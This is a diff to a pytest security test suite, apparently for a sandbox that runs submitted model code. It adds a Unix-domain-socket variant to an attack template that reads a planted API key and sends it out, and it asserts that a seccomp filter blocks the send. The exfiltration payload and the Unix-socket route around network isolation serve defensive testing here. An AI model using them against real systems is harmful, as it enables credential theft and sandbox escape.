@@ -55,6 +55,13 @@ try:
         s.sendall(_loot.encode())
 except OSError as exc:
     print("connect refused:", exc)
+try:  # a pathname Unix socket (an SSH agent, a Docker daemon): outside the network namespace's reach
+    with socket.socket(socket.AF_UNIX) as s:
+        s.settimeout(3)
+        s.connect({unix_path!r})
+        s.sendall(_loot.encode())
+except OSError as exc:
+    print("unix connect refused:", exc)
 
 
 class ModelNew(nn.Module):
@@ -67,14 +74,14 @@ class ModelNew(nn.Module):
 
 
 class Listener:
-    """A TCP listener on 127.0.0.1 that keeps whatever it is sent."""
+    """A TCP listener on 127.0.0.1 (or a Unix-domain one at `path`) that keeps whatever it is sent."""
 
-    def __init__(self) -> None:
-        self.sock = socket.socket()
-        self.sock.bind(("127.0.0.1", 0))
+    def __init__(self, path: Path | None = None) -> None:
+        self.sock = socket.socket(socket.AF_UNIX) if path else socket.socket()
+        self.sock.bind(str(path) if path else ("127.0.0.1", 0))
         self.sock.listen()
         self.sock.settimeout(0.5)
-        self.port = self.sock.getsockname()[1]
+        self.port = 0 if path else self.sock.getsockname()[1]
         self.received = b""
         self.connections = 0
         self._stop = threading.Event()
@@ -105,10 +112,12 @@ class Listener:
 
 
 @pytest.fixture
-def listener() -> Iterator[Listener]:
+def listener(tmp_path: Path) -> Iterator[Listener]:
     server = Listener()
+    server.unix = Listener(tmp_path / "agent.sock")  # type: ignore[attr-defined]
     yield server
     server.close()
+    server.unix.close()  # type: ignore[attr-defined]
 
 
 def _attack(tmp_path: Path, home: Path, listener: Listener, header: str = HEADER) -> tuple[Path, list[Path]]:
@@ -117,7 +126,11 @@ def _attack(tmp_path: Path, home: Path, listener: Listener, header: str = HEADER
     credentials.parent.mkdir(parents=True)
     credentials.write_text(f"api_key = {KEY}\n")
     body = ATTACK.format(
-        credentials=str(credentials), tmp_file=str(tmp_file), home_file=str(home / "leak.txt"), port=listener.port
+        credentials=str(credentials),
+        tmp_file=str(tmp_file),
+        home_file=str(home / "leak.txt"),
+        port=listener.port,
+        unix_path=str(listener.unix.sock.getsockname()),  # type: ignore[attr-defined]
     )
     path = write_case(tmp_path / "cases", "exfiltrates_the_key", header + body)
     return path, [tmp_file, home / "leak.txt"]
@@ -128,6 +141,8 @@ def _assert_nothing_leaked(targets: list[Path], listener: Listener, out: Path) -
         assert not target.exists() or KEY not in target.read_text(), target
         target.unlink(missing_ok=True)
     assert listener.connections == 0 and listener.received == b""
+    unix = listener.unix  # type: ignore[attr-defined]
+    assert unix.connections == 0 and unix.received == b""  # the seccomp filter refused the socket
     for evidence in out.rglob("*"):
         if evidence.is_file():
             assert KEY not in evidence.read_text(errors="replace"), evidence
